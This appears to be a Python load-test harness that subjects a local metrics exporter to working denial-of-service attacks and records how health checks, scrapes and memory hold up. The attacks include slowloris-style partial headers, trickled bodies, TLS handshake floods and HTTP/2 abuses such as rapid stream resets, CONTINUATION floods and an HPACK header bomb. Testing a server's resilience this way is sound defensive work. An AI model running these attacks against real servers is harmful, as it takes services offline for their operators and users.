"""Clients that try to lock others out: `make attacks`.

Each attack lasts a while against a running server. Meanwhile a client asks for health and another one scrapes; what
they see, and the server's memory, is the result. Other servers can be attacked for comparison (`--peer`).
"""

import argparse
import asyncio
import contextlib
import logging
import multiprocessing
import re
import socket
import ssl
import subprocess
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable
from contextlib import ExitStack
from dataclasses import dataclass, field
from functools import cache
from itertools import count
from multiprocessing.synchronize import Event
from pathlib import Path
from statistics import median

from certificates import Certificates
from cloud import Cloud
from configuration import Config, account, places, write, write_web
from http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FIRST_WINDOW,
    HEAD_BYTES,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LARGEST_FRAME,
    LARGEST_WINDOW,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    block,
    frame,
    literal,
    number,
    request,
    settings,
)
from program import environment, exporter, free_port, resident
from waiting import wait_for

SERVERS = 1000
LENGTH = 15.0
# How long the attackers may take to come.
COMING = 60
# The attackers' addresses; a few, as behind an ingress, and many, as from everywhere.
ONE, MANY = ("127.0.0.1",), tuple(f"127.0.1.{number}" for number in range(1, 65))
# The others'.
OTHERS = "127.0.0.9"
# How many requests the exporter takes at a time on a connection of HTTP/2.
STREAMS = 8


@dataclass(frozen=True)
class Server:
    """Where it listens, and which process it is."""

    port: int
    pid: int
    health: str = "/-/healthy"
    # What is large.
    large: str = "/api/v1/status"
    # Who has signed its certificate, if it speaks TLS.
    authority: Path | None = None


@dataclass
class Seen:
    """What others have seen of a server under attack."""

    health: list[float] = field(default_factory=list)
    scrapes: list[float] = field(default_factory=list)
    failed_health: int = 0
    failed_scrapes: int = 0
    resident: float = 0.0
    # The most connections that there were, as far as the server says.
    connections: int = 0

    def scrape(self, server: Server) -> None:
        began = time.monotonic()
        try:
            page = fetch(server, "/metrics")
        except OSError:
            self.failed_scrapes += 1
            return
        self.scrapes.append(time.monotonic() - began)
        if open_now := re.search(rb"^aliyun_task_exporter_http_connections (\d+)$", page, re.MULTILINE):
            self.connections = max(self.connections, int(open_now[1]))

    @property
    def worst_health(self) -> float:
        return max(self.health, default=float("inf"))


class Attackers:
    """Connections from some addresses, which are opened again when the server closes them."""

    def __init__(self, server: Server, count: int, addresses: tuple[str, ...], ready: Event) -> None:
        self.server, self.count, self.addresses = server, count, addresses
        self.opened, self.ready = 0, ready

    async def open(
        self, number: int, size: int | None = None, *, tls: bool = False
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection; with `size`, its kernel buffers little of what is not read."""
        context = attacking() if tls else None
        sock = socket.socket()
        sock.setblocking(False)
        if size:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, size)
        sock.bind((self.addresses[number % len(self.addresses)], 0))
        try:
            await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", self.server.port))
            opened = await asyncio.open_connection(
                sock=sock, limit=1024, ssl=context, server_hostname="localhost" if tls else None
            )
        except BaseException:
            sock.close()
            raise
        self.opened += 1
        if self.opened >= self.count // 2:
            self.ready.set()
        return opened

    async def run(self, attack: "Attack") -> None:
        async def again(number: int) -> None:
            while True:
                with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                    await attack(self, number)
                await asyncio.sleep(0.5)

        await asyncio.gather(*map(again, range(self.count)))


@cache
def attacking() -> ssl.SSLContext:
    """Speaks HTTP/2 with any server."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


@cache
def trusting(authority: Path) -> ssl.SSLContext:
    return ssl.create_default_context(cafile=str(authority))


Attack = Callable[[Attackers, int], Awaitable[None]]


async def closed(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Waits until the server closes it."""
    try:
        while await reader.read(1024):
            pass
    finally:
        writer.close()


async def half_a_head(attackers: Attackers, number: int) -> None:
    reader, writer = await attackers.open(number)
    writer.write(b"GET /metrics HTTP/1.1\r\nHost: local")
    await closed(reader, writer)


async def nothing(attackers: Attackers, number: int) -> None:
    await closed(*await attackers.open(number))


def trickles(begin: bytes, pause: float) -> Attack:
    """What follows comes byte by byte, with a pause in seconds."""

    async def attack(attackers: Attackers, number: int) -> None:
        reader, writer = await attackers.open(number)
        writer.write(begin)
        try:
            while not writer.is_closing() and not reader.at_eof():
                writer.write(b"a")
                await writer.drain()
                await asyncio.sleep(pause)
        finally:
            writer.close()

    return attack


HALF_A_HEAD = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
HEAD_OF_A_BODY = b"POST /-/reload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000000\r\n\r\n"


def asks(path: str, *, reads: bool) -> Attack:
    async def attack(attackers: Attackers, number: int) -> None:
        if not reads:
            return await leaves(attackers, number, path, path, path, path)
        reader, writer = await attackers.open(number)
        request = f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
        try:
            while True:
                writer.write(request)
                head = await reader.readuntil(b"\r\n\r\n")
                length = next(int(line.split(b":")[1]) for line in head.lower().splitlines() if b"length" in line)
                while length > 0 and (part := await reader.read(min(length, 65536))):
                    length -= len(part)
        finally:
            writer.close()

    return attack


async def leaves(attackers: Attackers, number: int, *paths: str) -> None:
    """Asks for something, and reads nothing of it."""
    _, writer = await attackers.open(number, 2048)
    try:
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(b"".join(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() for path in paths))
        await asyncio.sleep(3600)
    finally:
        writer.close()


def leaves_another(path: str) -> Attack:
    """Each asks for another part, which no other one shares."""

    async def attack(attackers: Attackers, number: int) -> None:
        await leaves(attackers, number, f"{path}?per_page={500 - number % 400}&page={1 + number // 400}")

    return attack


async def leaves_another_time(attackers: Attackers, number: int) -> None:
    """Each asks for metrics that have changed since the last one asked."""
    await asyncio.sleep(number / 100)
    await leaves(attackers, number, "/metrics")


async def pipeline(attackers: Attackers, number: int) -> None:
    """Requests whose responses are small, without waiting for any."""
    reader, writer = await attackers.open(number, 2048)
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    try:
        while not writer.is_closing() and not reader.at_eof():
            writer.write(b"GET /-/ready HTTP/1.1\r\nHost: localhost\r\n\r\n" * 500)
            await writer.drain()
    finally:
        writer.close()


async def handshakes(attackers: Attackers, number: int) -> None:
    while True:
        _, writer = await attackers.open(number, tls=True)
        writer.close()


async def half_a_handshake(attackers: Attackers, number: int) -> None:
    reader, writer = await attackers.open(number)
    # A record of 512 bytes, which begins as a ClientHello.
    writer.write(b"\x16\x03\x01\x02\x00\x01")
    await closed(reader, writer)


def says(begin: bytes, again: bytes = b"", pause: float = 0.0, *, reads: bool = True) -> Attack:
    """On a connection of HTTP/2: first `begin`, then `again` and again, with a pause between."""

    async def attack(attackers: Attackers, number: int) -> None:
        reader, writer = await attackers.open(number, None if reads else 2048, tls=True)
        if not reads:
            writer.transport.pause_reading()  # type: ignore[attr-defined]
        reading = asyncio.create_task(closed(reader, writer))
        try:
            writer.write(begin)
            while again and not reading.done() and not writer.is_closing():
                writer.write(again)
                await writer.drain()
                await asyncio.sleep(pause)
            await reading
        finally:
            reading.cancel()
            writer.close()

    return attack


def opening(window: int = LARGEST_WINDOW) -> bytes:
    """The begin of a connection whose responses may send as much as `window` before they wait."""
    update = (LARGEST_WINDOW - FIRST_WINDOW).to_bytes(4)
    return PREFACE + settings((INITIAL_WINDOW_SIZE, window)) + frame(WINDOW_UPDATE, payload=update)


def requests(path: str) -> bytes:
    """As many as are taken at a time."""
    return b"".join(request(2 * at + 1, path) for at in range(STREAMS))


def resets(path: str) -> Attack:
    """Requests that are taken back at once, on ever new streams."""

    async def attack(attackers: Attackers, number: int) -> None:
        reader, writer = await attackers.open(number, tls=True)
        reading = asyncio.create_task(closed(reader, writer))
        cancel = (8).to_bytes(4)
        try:
            writer.write(opening())
            for first in range(1, LARGEST_WINDOW, 2 * STREAMS):
                if reading.done() or writer.is_closing():
                    return
                for stream in range(first, first + 2 * STREAMS, 2):
                    writer.write(request(stream, path) + frame(RST_STREAM, 0, stream, cancel))
                await writer.drain()
                await asyncio.sleep(0)
        finally:
            reading.cancel()
            writer.close()

    return attack


def streams(path: str) -> Attack:
    """Requests on all streams; each response is read, and followed by another request."""

    async def attack(attackers: Attackers, number: int) -> None:
        reader, writer = await attackers.open(number, tls=True)
        free = 2 * STREAMS + 1
        try:
            writer.write(opening() + requests(path))
            while True:
                head = await reader.readexactly(HEAD_BYTES)
                length, kind, flags = int.from_bytes(head[:3]), head[3], head[4]
                await reader.readexactly(length)
                if kind == SETTINGS and not flags & ACK:
                    writer.write(frame(SETTINGS, ACK))
                if kind == DATA:
                    writer.write(frame(WINDOW_UPDATE, payload=length.to_bytes(4)) if length else b"")
                if kind in (DATA, HEADERS) and flags & END_STREAM:
                    writer.write(request(free, path))
                    free += 2
        finally:
            writer.close()

    return attack


def attacks(server: Server) -> dict[str, tuple[int, Attack]]:
    """What is tried on a server without TLS: how many connections, and what each does."""
    return {
        "half a head": (512, half_a_head),
        "nothing": (512, nothing),
        "a head, a byte a second": (512, trickles(HALF_A_HEAD, 1)),
        "asks for /metrics, reads nothing": (512, asks("/metrics", reads=False)),
        f"asks for {server.large}, reads nothing": (505, asks(server.large, reads=False)),
        f"each asks for another part of {server.large}, reads nothing": (505, leaves_another(server.large)),
        "asks for /metrics one after another, reads nothing": (512, leaves_another_time),
        "asks for /-/ready all the time, reads nothing": (512, pipeline),
        "a body, a byte at a time": (512, trickles(HEAD_OF_A_BODY, 0.1)),
        f"asks for {server.large} all the time": (200, asks(server.large, reads=True)),
    }


def attacks_with_tls(server: Server) -> dict[str, tuple[int, Attack]]:
    """The same of one with TLS, and what HTTP/2 makes possible."""
    large = server.large
    table = literal((b"x", b"y" * 4000), indexed=True)
    bomb = block(large) + table + number(62, 7, 0x80) * (LARGEST_FRAME - len(table) - 200)
    posted = [frame(HEADERS, END_HEADERS, 2 * at + 1, block(large, method="POST")) for at in range(STREAMS)]
    bodies = [frame(DATA, 0, 2 * at + 1, bytes(4095)) for at in range(STREAMS)]
    return {
        "half a TLS handshake": (512, half_a_handshake),
        "TLS handshakes, all the time": (64, handshakes),
        "half a preface": (512, says(PREFACE[:12])),
        "a preface, a byte a second": (512, says(PREFACE[:1], b"R", 1)),
        "pings, and asks nothing": (512, says(opening(), frame(PING, payload=bytes(8)), 0.2)),
        "pings, all the time": (64, says(opening(), frame(PING, payload=bytes(8)) * 100)),
        "pings, reads nothing": (512, says(opening(), frame(PING, payload=bytes(8)) * 100, 0.1, reads=False)),
        "settings, all the time": (64, says(opening(), settings((INITIAL_WINDOW_SIZE, 9)) * 100)),
        "settings, reads nothing": (512, says(opening(), settings((INITIAL_WINDOW_SIZE, 9)) * 100, 0.1, reads=False)),
        "empty frames": (64, says(opening() + posted[0], frame(DATA, 0, 1) * 100)),
        "a body on each stream": (512, says(opening() + b"".join(posted + bodies))),
        "priorities": (64, says(opening(), frame(PRIORITY, 0, 1, bytes(4) + b"\x10") * 100)),
        "a head without end": (
            64,
            says(
                opening() + frame(HEADERS, END_STREAM, 1, block(large)),
                frame(CONTINUATION, 0, 1, literal((b"x", b"y" * 16000))),
                0.01,
            ),
        ),
        "a head of 15 KiB on each stream": (
            512,
            says(
                opening(0) + b"".join(request(2 * at + 1, large, (b"x", b"y" * 15_000)) for at in range(STREAMS)),
            ),
        ),
        "a head that unpacks to 60 MB": (64, says(opening() + frame(HEADERS, END_STREAM | END_HEADERS, 1, bomb))),
        "requests that are reset at once": (64, resets(large)),
        f"asks for {large} on 8 streams, reads nothing": (505, says(opening() + requests(large), reads=False)),
        "asks for /metrics on 8 streams, reads nothing": (512, says(opening() + requests("/metrics"), reads=False)),
        f"asks for {large} on 8 streams, a window of 0": (512, says(opening(0) + requests(large))),
        f"asks for {large} on 8 streams, a window of 0, pings": (
            512,
            says(opening(0) + requests(large), frame(PING, payload=bytes(8)), 0.2),
        ),
        f"asks for {large} on 8 streams all the time": (64, streams(large)),
    }


def table(server: Server) -> dict[str, tuple[int, Attack]]:
    return attacks_with_tls(server) if server.authority else attacks(server)


def strike(server: Server, name: str, addresses: tuple[str, ...], ready: Event) -> None:
    """Attacks until the process is killed; it is ready when half of the connections are open, or were."""
    # It tells of everything that is written to a connection that the server has cut.
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    connections, attack = table(server)[name]
    asyncio.run(Attackers(server, connections, addresses, ready).run(attack))


def fetch(server: Server, path: str) -> bytes:
    """What a request from another address gets; raises if there is no 200."""
    with contextlib.ExitStack() as stack:
        sock = stack.enter_context(socket.create_connection(("127.0.0.1", server.port), 5, (OTHERS, 0)))
        if server.authority:
            sock = stack.enter_context(trusting(server.authority).wrap_socket(sock, server_hostname="localhost"))
        sock.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
        until, reply = time.monotonic() + 5, bytearray()
        while part := sock.recv(65536):
            reply += part
            sock.settimeout(max(until - time.monotonic(), 0.001))
    if not reply.startswith(b"HTTP/1.1 200"):
        raise OSError(bytes(reply[:40]))
    return bytes(reply)


def watch(server: Server, length: float, ready: Event) -> Seen:
    """Asks for health four times a second, and scrapes each second; while attackers come, and for `length` after."""
    seen, have_come, until = Seen(), False, time.monotonic() + COMING
    for turn in count():
        began = time.monotonic()
        if not have_come and ready.is_set():
            have_come, until = True, began + length
        if began >= until:
            break
        try:
            fetch(server, server.health)
            seen.health.append(time.monotonic() - began)
        except OSError:
            seen.failed_health += 1
        if turn % 4 == 0:
            seen.scrape(server)
        seen.resident = max(seen.resident, resident(server.pid))
        time.sleep(0.25)
    return seen


def attacked(server: Server, name: str, addresses: tuple[str, ...], length: float) -> Seen:
    """Attacks a server for a while; what others have seen of it. The attackers are a process of their own, so that
    what they do costs the others no time."""
    spawn = multiprocessing.get_context("spawn")
    ready = spawn.Event()
    attackers = spawn.Process(target=strike, args=(server, name, addresses, ready), daemon=True)
    attackers.start()
    try:
        seen = watch(server, length, ready)
        assert ready.is_set(), f"{name}: the attackers have not come through"
        assert attackers.is_alive(), f"{name}: the attackers have given up"
        return seen
    finally:
        attackers.kill()
        attackers.join()


def started(stack: ExitStack, folder: Path, servers: int, *, tls: bool = False) -> Server:
    """An exporter that has read as many servers of a simulated cloud."""
    size = ("--servers", str(servers), "--clusters", "0", "--quota", "100000")
    simulated = stack.enter_context(exporter(folder, "simulate", "--listen", "127.0.0.1:0", *size))
    cloud = Cloud(simulated.said(r"listens on (http://\S+)/")[1])
    config: Config = {
        "accounts": [account(cloud.url) | {"quotas": {"SWAS": 50_000}}],
        "swas": {"servers": places(cloud.world(), "servers"), "strategy": "per_region"},
    }
    port, certificates = free_port(), Certificates(folder)
    web: Config = {"tls_server_config": certificates.server.served} if tls else {}
    listen = ("--web.listen-address", f"127.0.0.1:{port}", "--web.config.file", write_web(folder, web))
    program = stack.enter_context(exporter(folder, "--config.file", write(folder, config), *listen))
    server = Server(port, program.process.pid, authority=certificates.authority.certificate if tls else None)
    wait_for(
        "every server to be read",
        lambda: fetch(server, "/metrics").count(b"aliyun_task_exporter_target_up{") >= servers,
        120,
    )
    return server


def peer(stack: ExitStack, command: list[str]) -> Server:
    """Another server, whose command takes {port}."""
    port = free_port()
    process = subprocess.Popen(
        [part.format(port=port) for part in command],
        env=environment(),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    stack.callback(process.wait)
    stack.callback(process.kill)
    server = Server(port, process.pid, health="/", large="/metrics")
    wait_for("the other server", lambda: fetch(server, "/metrics"))
    return server


def row(name: str, addresses: tuple[str, ...], seen: Seen) -> str:
    asked, scraped = len(seen.health) + seen.failed_health, len(seen.scrapes) + seen.failed_scrapes
    worst = f"{seen.worst_health * 1000:,.0f}" if seen.health else "-"
    middle = f"{median(seen.scrapes) * 1000:,.0f}" if seen.scrapes else "-"
    return (
        f"| {name} | {len(addresses)} | {len(seen.health)} of {asked} | {worst} | {len(seen.scrapes)} of {scraped} "
        f"| {middle} | {seen.resident:,.0f} |"
    )


HEAD = (
    "| attack | addresses | health answered | slowest, ms | scrapes served | median, ms | resident MiB |\n"
    "| --- | --- | --- | --- | --- | --- | --- |\n"
)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--servers", type=int, default=SERVERS, help="how many the attacked exporter watches")
    parser.add_argument("--seconds", type=float, default=LENGTH, help="how long each attack lasts")
    parser.add_argument("--peer", nargs=argparse.REMAINDER, help="another server's command instead, with {port}")
    arguments = parser.parse_args()
    for tls in (False,) if arguments.peer else (False, True):
        with ExitStack() as stack:
            folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="aliyun-attacks-")))
            server = (
                peer(stack, arguments.peer) if arguments.peer else started(stack, folder, arguments.servers, tls=tls)
            )
            sys.stdout.write(HEAD)
            for name in table(server):
                for addresses in (ONE, MANY):
                    sys.stdout.write(row(name, addresses, attacked(server, name, addresses, arguments.seconds)) + "\n")
                    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
